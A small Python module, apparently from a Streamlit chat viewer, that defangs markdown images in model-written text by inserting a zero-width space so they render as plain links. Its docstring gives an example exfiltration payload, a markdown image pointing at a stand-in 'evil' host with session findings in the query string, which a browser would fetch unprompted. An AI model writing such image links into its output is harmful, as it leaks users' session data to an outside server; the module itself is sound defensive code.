"""Chat text as markdown that loads nothing by itself.

What a model (or a transcript someone handed over) writes is rendered as markdown, and a
markdown image is fetched by the browser the moment the page shows it: `![](https://evil/?q=
<what the session found>)` reports to a stranger's server without a click. Every image opener
`![` is split by a zero-width space, so it renders as a "!" and an ordinary link, which loads
nothing unless the reader follows it. Raw HTML (`<img>`) is already escaped by Streamlit.
"""

from __future__ import annotations

import re

_IMAGE_OPENER = re.compile(r"!(?=\[)")
_ZERO_WIDTH_SPACE = "\u200b"


def without_images(text: str) -> str:
    """`text` with every markdown image turned into a link (inline and reference style)."""
    return _IMAGE_OPENER.sub("!" + _ZERO_WIDTH_SPACE, text)
